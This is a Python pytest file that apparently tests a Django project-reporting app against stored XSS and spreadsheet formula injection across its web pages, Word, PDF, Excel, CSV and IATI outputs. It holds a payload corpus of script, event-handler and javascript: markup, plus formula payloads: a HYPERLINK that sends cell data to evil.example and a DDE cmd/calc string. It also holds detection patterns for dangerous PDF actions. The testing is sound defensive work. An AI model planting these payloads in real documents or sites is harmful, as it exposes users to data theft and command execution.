"""Stored script and spreadsheet formulas in every text a person or an import can write,
checked in every output: the web pages, the HTML, Word, PDF and Excel reports, the CSV
exports, the Excel template, the fund report and the IATI file.

Each round writes, through the services a person's request goes through (an import for
the project's own texts), one text per field: a formula first (a different one each round,
so every spreadsheet output sees each at the start of a cell), then the field's marker
``xssNN``, then the whole markup corpus. Then every output is rendered and inspected as
what it is (HTML and XML parsed, the Word XML and its relationships, the PDF's raw objects,
the workbook's cells, the CSV's cells). A field is counted in an output only where its
marker is found, so a check cannot pass by not looking. ``LOGFRAME_XSS_ROUNDS`` sets the
number of rounds (CI 1, ``make security-full`` 4); the figures are in docs/security.md.
"""

from __future__ import annotations

import csv
import datetime
import io
import os
import re
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from lxml import etree, html
from openpyxl import load_workbook

pytestmark = pytest.mark.django_db

MARKUP = [
    '"><script>alert(1)</script>',
    "<img src=x onerror=alert(2)>",
    '<a href="javascript:alert(3)">open</a>',
    "<svg/onload=alert(4)><circle r=9 /></svg>",
    "</textarea></td></table><b onmouseover=alert(5)>unclosed",
    '<iframe srcdoc="&lt;script&gt;alert(6)&lt;/script&gt;"></iframe>',
    "\u202egnp.exe\u202c \u2066isolated",  # bidi override, unpaired isolate
    "]]><!-- &amp; &#x3c;x&#x3e; {{ 7*7 }} ${7*7}",  # CDATA/comment breakers, templates
]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1,1)",
]
LONG = "long " * 4000  # 20,000 characters, in the text fields without a length limit
PERIOD = "2013Q1"
ARGS = {"fund": "UNDG-ITF", "number": "G11-23"}
QUARTER = {**ARGS, "period": PERIOD}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
MARKER = re.compile(r"xss\d\d")
OVERRIDES = re.compile("[\u202a-\u202e]")  # stripped on the way in (logframe.textclean)


def shown(text: str, where: str) -> set[str]:
    """The markers in an output's text; no bidi override or embedding came through."""
    assert not OVERRIDES.search(text), f"{where}: a bidi override reached the output"
    return set(MARKER.findall(text))


def payload(round_: int, index: int, *, limit: int | None = None) -> str:
    """Field ``index``'s text in ``round_``: a formula, its marker, the markup corpus."""
    text = f"{FORMULAS[round_ % len(FORMULAS)]} xss{index:02d} {' '.join(MARKUP)}"
    return text[:limit] if limit else text


# ---------------------------------------------------------------------------------------
# Writing: one function per field, through the service a person's request goes through.


@dataclass
class World:
    project: object
    period: object
    actor: object
    round_: int
    fields: list[str] = field(default_factory=list)

    def text(self, name: str, *, limit: int | None = None) -> str:
        self.fields.append(name)
        return payload(self.round_, len(self.fields) - 1, limit=limit)


def _project_texts(world: World) -> None:
    """The project's own texts, as the project-file import stores them (sanitised, bidi
    controls removed): title, description (rich text), goal, objective, outputs,
    indicators, key activities, procurement items and footnotes."""
    from logframe.portfolio import models as m
    from logframe.richtext import sanitise_html
    from logframe.textclean import strip_bidi_controls as clean

    project = world.project
    m.Project.objects.filter(pk=project.pk).update(
        title=clean(world.text("project title", limit=500)),
        description=sanitise_html(clean(world.text("project description"))),
        development_goal=sanitise_html(clean(world.text("development goal"))),
        undaf_outcome=sanitise_html(clean(world.text("UNDAF outcome"))),
        immediate_objective=sanitise_html(clean(world.text("immediate objective"))),
    )
    for result in m.Result.objects.filter(project=project).order_by("id")[:2]:
        m.Result.objects.filter(pk=result.pk).update(text=clean(world.text("output text")))
    for indicator in m.Indicator.objects.filter(result__project=project).order_by("id")[:2]:
        m.Indicator.objects.filter(pk=indicator.pk).update(text=clean(world.text("indicator text")))
    activity = m.Activity.objects.filter(result__project=project).order_by("id").first()
    m.Activity.objects.filter(pk=activity.pk).update(text=clean(world.text("key activity")))
    item = m.ProcurementItem.objects.filter(project=project).order_by("id").first()
    if item is not None:
        m.ProcurementItem.objects.filter(pk=item.pk).update(
            text=clean(world.text("procurement item", limit=500))
        )
    note = m.Footnote.objects.filter(project=project).order_by("id").first()
    if note is not None:
        m.Footnote.objects.filter(pk=note.pk).update(text=clean(world.text("footnote")))


def _entry(world: World) -> None:
    """The quarter's data entry: a value's comment, a narrative, the quarter's texts."""
    from logframe.portfolio import models as m
    from logframe.workflow.entry import (
        ValueInput,
        indicator_value_set,
        narrative_set,
        period_texts_set,
    )

    period, actor = world.period, world.actor
    indicator = m.Indicator.objects.filter(result__project=world.project, code="1.1.9").get()
    value = m.IndicatorValue.objects.filter(period=period, indicator=indicator).first()
    indicator_value_set(
        period=period, indicator=indicator, actor=actor,
        data=ValueInput(value=Decimal(3), comment=world.text("value comment") + LONG),
        expected_version=value.version if value else 0,
    )  # fmt: skip
    result = m.Result.objects.filter(project=world.project).order_by("id").last()
    progress = m.ResultProgress.objects.filter(period=period, result=result).first()
    narrative_set(
        period=period, result=result, actor=actor,
        narrative=f"<p>{world.text('narrative')}</p><p>{LONG}</p>",
        expected_version=progress.version if progress else 0,
    )  # fmt: skip
    period.refresh_from_db()
    period_texts_set(
        period=period, actor=actor, expected_version=period.version,
        summary=world.text("quarter summary"), constraints=world.text("constraints"),
        procurement=world.text("procurement progress"),
    )  # fmt: skip


def _evidence(world: World) -> None:
    from logframe.portfolio import models as m
    from logframe.workflow.evidence import evidence_attach

    indicator = m.Indicator.objects.filter(result__project=world.project, code="1.1.9").get()
    pdf = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    # A folder in the name is dropped (``clean_file_name``): no slash, so all of it is tried.
    name = world.text("evidence file name").replace("/", "|")[:150] + ".pdf"
    evidence_attach(
        period=world.period, indicator=indicator, actor=world.actor,
        upload=SimpleUploadedFile(name, pdf, content_type="application/pdf"),
        description=world.text("evidence description", limit=300),
    )  # fmt: skip


def _register(world: World) -> None:
    from logframe.activities.services.entry import ActivityInput, activity_create
    from logframe.domain.register.kinds import ActivityType
    from logframe.portfolio import models as m

    output = m.Result.objects.filter(project=world.project, code="1.1").first()
    activity_create(
        period=world.period, actor=world.actor,
        data=ActivityInput(
            type=ActivityType.TRAINING, title=world.text("activity title", limit=300),
            start=datetime.date(2013, 2, 1), end=datetime.date(2013, 2, 2), output=output,
            place_text=world.text("activity place", limit=200),
            organisers=world.text("activity organisers", limit=300),
            male=4, female=5, total=9, notes=world.text("activity notes"),
        ),
    )  # fmt: skip


def _translations(world: World) -> None:
    from logframe.accounts.access import project_access
    from logframe.domain.records import TextSubject
    from logframe.translations.entry import TextKey, translations_save

    texts = {
        TextKey(TextSubject.PROJECT, "", "", "title"): world.text("translated title"),
        TextKey(TextSubject.PERIOD, PERIOD, "", "summary"): world.text("translated summary"),
    }
    translations_save(
        project=world.project, access=project_access(user=world.actor, project=world.project),
        original_language="en", language="ar", texts=texts, actor=world.actor,
        reason="security test",
    )  # fmt: skip


def _workflow(world: World) -> None:
    """Submitted, returned with a comment; submitted, approved, reopened with a reason."""
    from logframe.workflow.transitions import (
        period_approve,
        period_reopen,
        period_return,
        period_submit,
    )

    period, actor = world.period, world.actor
    period_submit(period=period, actor=actor)
    period_return(period=_fresh(period), actor=actor, comment=world.text("return comment"))
    period_submit(period=_fresh(period), actor=actor)
    period_approve(period=_fresh(period), actor=actor)
    period_reopen(period=_fresh(period), actor=actor, reason=world.text("reopen reason"))


def _fresh(period):
    period.refresh_from_db()
    return period


WRITERS = [_project_texts, _translations, _entry, _evidence, _register, _workflow]


def poison(project, actor, round_: int) -> World:
    world = World(project=project, period=project.periods.get(year=2013, quarter=1),
                  actor=actor, round_=round_)  # fmt: skip
    for write in WRITERS:
        write(world)
    return world


# ---------------------------------------------------------------------------------------
# Inspecting: one function per kind of output; each returns the markers it saw and
# raises AssertionError naming what is live.


def live_in_html(text: str, where: str) -> set[str]:
    """Parse as a browser would: no element or attribute that runs script or loads a frame."""
    tree = html.document_fromstring(text)
    live = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.lower()
        if tag in {"iframe", "object", "embed", "svg", "frame", "base"}:
            live.append(f"<{tag}>")
        if tag == "script" and (element.get("src") is None and "alert" in (element.text or "")):
            live.append("inline <script>")
        for name, value in element.attrib.items():
            if name.lower().startswith("on"):
                live.append(f"{tag} {name}=")
            if value.strip().lower().startswith(("javascript:", "data:text/html", "vbscript:")):
                live.append(f"{tag} {name}={value[:30]}")
            if name.lower() == "srcdoc":
                live.append(f"{tag} srcdoc")
    assert not live, f"{where}: live markup {live}"
    values = " ".join(v for e in tree.iter() if isinstance(e.tag, str) for v in e.attrib.values())
    return shown(tree.text_content() + " " + values, where)  # a form's fields: in value=""


def live_in_csv(text: str, where: str) -> set[str]:
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    bad = [c[:40] for c in cells if MARKER.search(c) and c.startswith(FORMULA_START)]
    assert not bad, f"{where}: cells a spreadsheet would run: {bad}"
    return shown(text, where)


def live_in_xlsx(data: bytes, where: str, *, formulas_allowed: bool = False) -> set[str]:
    book = load_workbook(io.BytesIO(data))
    seen: set[str] = set()
    bad = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if not isinstance(value, str) or not MARKER.search(value):
                    continue
                seen |= shown(value, f"{where} {sheet.title}!{cell.coordinate}")
                if cell.data_type == "f" or (not formulas_allowed and cell.data_type != "s"):
                    bad.append(f"{sheet.title}!{cell.coordinate} type {cell.data_type}")
    assert not bad, f"{where}: user text as formulas: {bad}"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith(".xml") and name.startswith("xl/worksheets/"):
                for formula in re.findall(rb"<f>(.*?)</f>", archive.read(name)):
                    assert not MARKER.search(formula.decode()), f"{where}: {formula[:60]!r}"
    return seen


def live_in_docx(data: bytes, where: str) -> set[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        document = archive.read("word/document.xml")
        rels = archive.read("word/_rels/document.xml.rels").decode()
        parts = {n: archive.read(n) for n in archive.namelist() if n.endswith(".xml")}
    for name, part in parts.items():
        etree.fromstring(part, etree.XMLParser(resolve_entities=False))  # well-formed
        assert b"<script" not in part.lower(), f"{where} {name}: <script> element"
    assert "javascript:" not in rels.lower(), f"{where}: a javascript: relationship"
    assert not re.findall(r'TargetMode="External"[^>]*', rels) or all(
        t.startswith(("http://", "https://", "mailto:"))
        for t in re.findall(r'Target="([^"]+)"[^>]*TargetMode="External"', rels)
    ), f"{where}: an external target other than a web address"
    instructions = re.findall(rb"<w:instrText[^>]*>(.*?)</w:instrText>", document)
    assert not [i for i in instructions if MARKER.search(i.decode())], f"{where}: field code"
    text = "".join(re.findall(r"<w:t[^>]*>([^<]*)</w:t>", document.decode()))
    return shown(text, where)


def live_in_pdf(data: bytes, where: str) -> set[str]:
    for action in (b"/JavaScript", b"/JS ", b"/JS(", b"/Launch", b"/SubmitForm", b"/EmbeddedFile"):
        assert action not in data, f"{where}: {action.decode()} in the PDF"
    assert not re.search(rb"/URI\s*\(\s*(javascript|data|file):", data, re.IGNORECASE), where
    done = subprocess.run(["pdftotext", "-", "-"], input=data, capture_output=True, check=True)
    return shown(done.stdout.decode("utf-8", "replace"), where)


def live_in_iati(data: bytes, where: str) -> set[str]:
    from logframe.interchange.iati.schema import schema_violations

    tree = etree.ElementTree(etree.fromstring(data, etree.XMLParser(resolve_entities=False)))
    assert schema_violations(tree) == [], f"{where}: not valid against the IATI schema"
    for element in tree.iter():
        assert not (isinstance(element.tag, str) and element.tag.lower() in {"script", "svg"})
    return shown("".join(tree.getroot().itertext()), where)


# ---------------------------------------------------------------------------------------
# The outputs: (name, kind, how to get its bytes).


def _get(client, name: str, query: str = "", **kwargs) -> Callable[[], bytes]:
    def fetch() -> bytes:
        response = client.get(reverse(name, kwargs=kwargs) + query)
        assert response.status_code == 200, f"{name}: {response.status_code}"
        return response.content

    return fetch


def _in_arabic(client, fetch: Callable[[], bytes]) -> Callable[[], bytes]:
    """The page in Arabic: the interface's language picks the content's translation."""
    from django.conf import settings

    def fetch_ar() -> bytes:
        client.cookies[settings.LANGUAGE_COOKIE_NAME] = "ar"
        try:
            return fetch()
        finally:
            del client.cookies[settings.LANGUAGE_COOKIE_NAME]

    return fetch_ar


def outputs(client, world: World) -> list[tuple[str, str, Callable[[], bytes]]]:
    from logframe.activities.models import Activity
    from logframe.portfolio import models as m

    activity = Activity.objects.filter(period=world.period).order_by("-id").first()
    value = m.IndicatorValue.objects.get(period=world.period, indicator__code="1.1.9")
    snapshots = m.PeriodSnapshot.objects.filter(period=world.period).count()
    fund = {"code": "UNDG-ITF"}
    report = [("html", "html"), ("docx", "docx"), ("pdf", "pdf"), ("xlsx", "xlsx"),
              ("csv", "csv")]  # fmt: skip
    found = [
        ("page: project overview", "html", _get(client, "project", **ARGS)),
        ("page: report", "html", _get(client, "project-report", **ARGS)),
        ("page: data entry", "html", _get(client, "project-entry", **QUARTER)),
        ("page: history", "html", _get(client, "project-history", **ARGS)),
        ("page: value history", "html",
         _get(client, "value-history", indicator=value.indicator.code, **QUARTER)),
        ("page: activity register", "html", _get(client, "activity-register", **QUARTER)),
        ("page: activity", "html", _get(client, "activity", pk=activity.pk, **QUARTER)),
        ("page: translations", "html", _get(client, "project-translations", "?language=ar",
                                            **ARGS)),
        ("page: fund", "html", _get(client, "fund", **fund)),
        ("page: fund report", "html", _get(client, "fund-report", f"?period={PERIOD}", **fund)),
        ("page: report in Arabic", "html",
         _in_arabic(client, _get(client, "project-report", **ARGS))),
        ("page: snapshot's report", "html",
         _get(client, "snapshot-report", n=snapshots, **QUARTER)),
        ("audit CSV", "csv", _get(client, "project-history-csv", **ARGS)),
        ("Excel template", "xlsx-template", _get(client, "workbook-template", **QUARTER)),
        *[(f"report .{fmt}", kind, _get(client, "report-download", fmt=fmt, **QUARTER))
          for fmt, kind in report],
        ("report .html in Arabic", "html",
         _get(client, "report-download", "?lang=ar", fmt="html", **QUARTER)),
        ("report .docx in Arabic", "docx",
         _get(client, "report-download", "?lang=ar", fmt="docx", **QUARTER)),
        *[(f"fund report .{fmt}", fmt, _get(client, "fund-report-download",
                                            f"?period={PERIOD}", fmt=fmt, **fund))
          for fmt in ("html", "xlsx", "docx")],
        ("IATI activities", "iati", lambda: _iati()),
    ]  # fmt: skip
    return found


def _iati() -> bytes:
    from logframe.interchange.iati.export import ExportSettings
    from logframe.interchange.iati.publish import export_bytes, records_to_export

    settings = ExportSettings(
        reporting_org_ref="XM-DAC-41114", reporting_org_name="United Nations Development Programme",
        country="IQ", public_url="https://logframe.example.org", today=datetime.date(2014, 1, 1),
    )  # fmt: skip
    return export_bytes(records_to_export(project="G11-23", fund="UNDG-ITF"), settings)


INSPECT: dict[str, Callable[[bytes, str], set[str]]] = {
    "html": lambda data, where: live_in_html(data.decode(), where),
    "csv": lambda data, where: live_in_csv(data.decode("utf-8-sig"), where),
    "xlsx": live_in_xlsx,
    "xlsx-template": lambda data, where: live_in_xlsx(data, where, formulas_allowed=True),
    "docx": live_in_docx,
    "pdf": live_in_pdf,
    "iati": live_in_iati,
}


# ---------------------------------------------------------------------------------------

# CI: one round (the markup corpus in every field, "=HYPERLINK" first); `make security-full`:
# all four formulas (test_injection tries the four in the CSV and Excel report every time).
FULL = os.environ.get("LOGFRAME_SECURITY_FULL") == "1"
ROUNDS = int(os.environ.get("LOGFRAME_XSS_ROUNDS", len(FORMULAS) if FULL else 1))


@pytest.mark.parametrize("round_", range(ROUNDS))
def test_every_text_in_every_output_is_inert(client, users, loaded_project, round_):
    world = poison(loaded_project, users["admin"], round_)
    client.force_login(users["admin"])
    markers = {f"xss{i:02d}": name for i, name in enumerate(world.fields)}
    shown: dict[str, set[str]] = {}
    for name, kind, fetch in outputs(client, world):
        shown[name] = INSPECT[kind](fetch(), f"round {round_}, {name}") & set(markers)
    assert all(shown.values()), [name for name, seen in shown.items() if not seen]
    nowhere = set(markers) - set().union(*shown.values())
    assert not nowhere, f"fields shown in no output: {[markers[m] for m in nowhere]}"
    print(f"\nround {round_}: {len(markers)} fields, {len(shown)} outputs, "
          f"{sum(len(s) for s in shown.values())} field-output pairs shown and inert; "
          + "; ".join(f"{n}: {len(s)}" for n, s in shown.items()))  # fmt: skip


def test_rich_text_written_around_the_services_is_sanitised_in_the_reports(
    client, users, loaded_project
):
    """A row written straight into the database (a restored backup, a careless script):
    the report sanitises rich text again, so its script does not reach a page or a file."""
    from logframe.portfolio import models as m

    raw = f"<p>xss90 {' '.join(p for p in MARKUP if not OVERRIDES.search(p))}</p>"
    m.Project.objects.filter(pk=loaded_project.pk).update(
        description=raw, development_goal=raw, undaf_outcome=raw, immediate_objective=raw
    )
    period = loaded_project.periods.get(year=2013, quarter=1)
    m.ReportingPeriod.objects.filter(pk=period.pk).update(summary=raw, constraints=raw)
    m.ResultProgress.objects.filter(period=period).update(narrative=raw)
    client.force_login(users["admin"])
    for name, fetch in [
        ("report page", _get(client, "project-report", **ARGS)),
        ("report .html", _get(client, "report-download", fmt="html", **QUARTER)),
    ]:
        assert "xss90" in live_in_html(fetch().decode(), name)
    assert "xss90" in live_in_pdf(_get(client, "report-download", fmt="pdf", **QUARTER)(), "pdf")


def test_a_nul_character_in_a_project_file_is_refused_by_name(tmp_path, example_path):
    """PostgreSQL's text cannot hold U+0000: the file is refused with one message naming
    the key, before anything is saved (the web forms and the API refuse it as Django's)."""
    import json

    from logframe.interchange.projectfile.errors import ProjectFileError
    from logframe.interchange.projectfile.read import read_project_file

    document = json.loads(example_path.read_text(encoding="utf-8"))
    document["project"]["title"] = "Elections\x00support"
    path = tmp_path / "project.json"
    path.write_text(json.dumps(document), encoding="utf-8")
    with pytest.raises(ProjectFileError, match=r"'title' holds a NUL character"):
        read_project_file(path)
